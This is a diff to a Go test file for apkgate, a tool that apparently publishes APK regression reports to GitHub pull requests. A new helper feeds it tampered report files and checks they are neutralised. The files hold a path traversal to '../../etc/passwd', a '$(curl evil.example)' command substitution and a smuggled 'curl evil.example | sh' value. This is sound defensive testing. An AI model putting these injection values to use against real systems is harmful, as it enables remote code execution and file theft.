@@ -6,14 +6,15 @@ import (
 	"testing"
 
 	"github.com/apkgate/apkgate/usecase/exit"
+	"github.com/apkgate/apkgate/usecase/githubactions/githubtest"
 )
 
 // One job measures with a token that may only read, and another one shows its verdict: the comment,
 // and the check run with each finding at its scenario's line.
 func TestPublish(t *testing.T) {
 	w := newWorkspace(t)
-	w.history()
 	w.build("demo-worse")
+	w.env["INPUT_BASE_APK"] = "demo-good.apk"
 	w.ReadOnly(true)
 	first := w.apkgate("action", "run", "--comment=false", "--check-run=false", "--why", "0")
 	w.want(first, exit.StatusRegression)
@@ -36,21 +37,18 @@ func TestPublish(t *testing.T) {
 	if all := w.Comments(7); len(all) != 1 || !strings.Contains(all[0].Body, "❌ Regression") || strings.Contains(all[0].Body, "fork") {
 		t.Errorf("the comments are %+v", all)
 	}
-	// What the second job shows is what the first one would have shown, to the letter, but for the
-	// command that repeats it: a command out of an artifact could be anybody's.
-	const repeat = "reproduce: with this build and a device: `apkgate run` · "
-	if shown := w.Comments(7)[0].Body; !strings.Contains(before, repeat) || !strings.Contains(shown, strings.TrimSpace(strings.Replace(before, repeat, "", 1))) {
+	// What the second job shows is what the first one would have shown, to the letter, and the day of
+	// the commit, which GitHub knows and this checkout does not.
+	const base, command = "commit bbbbbbbbbb", "reproduce: with both builds and a device: `apkgate compare --base demo-good.apk --head demo-worse.apk` · "
+	contains(t, "the first job's summary", before, base, command)
+	if shown := w.Comments(7)[0].Body; !strings.Contains(shown, strings.TrimSpace(strings.Replace(before, base, base+" of 2026-03-01", 1))) {
 		t.Errorf("the comment is\n%s\nand the first job's summary\n%s", shown, before)
 	}
 	if w.read("summary") != before {
 		t.Error("the job summary repeats what that of the first job says")
 	}
 
-	w.write("apkgate-report/meta.json", `{"format":"apkgate.artifact/1","base":"not a commit","places":{"read-mail":{"path":"../../etc/passwd","line":3}}}`)
-	w.want(w.apkgate("action", "publish"), exit.StatusPass)
-	if c := w.Checks()[1]; len(c.Annotations) != 0 {
-		t.Errorf("annotations are outside of the repository: %+v", c.Annotations)
-	}
+	w.hostileReport()
 	w.write("apkgate-report/evil.sh", "#!/bin/sh")
 	w.want(w.apkgate("action", "publish"), exit.StatusUsage)
 
@@ -67,5 +65,37 @@ func TestPublish(t *testing.T) {
 		r := w.apkgate("action", "publish")
 		w.want(r, exit.StatusUsage)
 		contains(t, "the error", r.Stderr, "action publish on the event "+event)
+	}
+}
+
+// hostileReport publishes reports whose files the pull request's code has changed: they choose no
+// annotation outside of the repository, no command, and no day for a commit that is not on the base
+// branch.
+func (w *workspace) hostileReport() {
+	t, verdict, meta := w.t, w.read("apkgate-report/verdict.json"), w.read("apkgate-report/meta.json")
+	published := func() string {
+		w.env["GITHUB_RUN_ID"] += "0"
+		w.want(w.apkgate("action", "publish"), exit.StatusPass)
+		return w.Comments(7)[0].Body
+	}
+	w.write("apkgate-report/meta.json", `{"format":"apkgate.artifact/1","base":"not a commit","places":{"read-mail":{"path":"../../etc/passwd","line":3}},
+		"builds":{"base":"$(curl evil.example).apk","head":"../../x.apk","scenarios":7}}`)
+	w.write("apkgate-report/verdict.json", strings.ReplaceAll(verdict, `"read-mail"`, `"x\u0060; curl evil.example | sh"`))
+	body := published()
+	contains(t, "the comment", body, "reproduce: with this build and a device: `apkgate run` ·")
+	if c := w.Checks()[1]; len(c.Annotations) != 0 {
+		t.Errorf("annotations are outside of the repository: %+v", c.Annotations)
+	}
+	if strings.Contains(body, "curl evil.example)") || strings.Contains(body, "x.apk") {
+		t.Errorf("the report chooses a command:\n%s", body)
+	}
+	theirs := strings.Repeat("e", 40) // a commit of a fork, which GitHub finds by its id as well
+	w.SetCommit(theirs, githubtest.Commit{})
+	w.write("apkgate-report/meta.json", meta)
+	for _, commit := range []string{theirs, "main", strings.Repeat("b", 12)} {
+		w.write("apkgate-report/verdict.json", strings.ReplaceAll(verdict, baseSHA, commit))
+		if body := published(); strings.Contains(body, " of 2026-03-01") || strings.Contains(body, " of 0001-") {
+			t.Errorf("the base build's commit %s has a day:\n%s", commit, body)
+		}
 	}
 }
